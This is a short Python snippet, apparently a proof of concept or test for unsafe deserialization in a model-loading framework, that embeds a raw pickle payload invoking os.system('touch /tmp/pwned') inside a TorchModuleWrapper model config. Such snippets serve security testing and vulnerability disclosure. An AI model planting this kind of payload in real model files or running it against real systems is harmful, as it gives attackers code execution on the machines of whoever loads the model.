PICKLE = {"class_name": "__bytes__", "config": {"value": "cos\nsystem\n(S'touch /tmp/pwned'\ntR."}}


def build_model():
    return handing_in(with_layer(builtin("TorchModuleWrapper", name="t", module=PICKLE)))
